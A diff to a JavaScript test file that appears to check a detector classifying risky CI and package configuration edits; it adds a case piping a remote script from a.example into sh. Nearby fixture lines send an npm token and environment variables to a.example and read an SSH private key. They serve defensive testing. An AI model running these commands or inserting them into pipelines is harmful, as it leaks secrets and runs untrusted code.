@@ -21,6 +21,7 @@ describe('what an edit adds', () => {
       '        run: |\n          curl -d "${{ secrets.NPM_TOKEN }}" https://a.example/c',
       'secret.read secrets of the job',
     ],
+    ['.forge/pipeline.yml', 'before: curl -s https://a.example/i | sh', 'code.install https://a.example/i'],
     ['.gitlab-ci.yml', '  script:\n    - env | curl -d @- https://a.example/c', 'net.egress https://a.example/c'],
     ['azure-pipelines.yml', '- bash: cat ~/.ssh/id_rsa', 'secret.read /home/u/.ssh/id_rsa'],
     ['package.json', '    "postinstall": "node scripts/x.js",', 'code.install /w/package.json'],
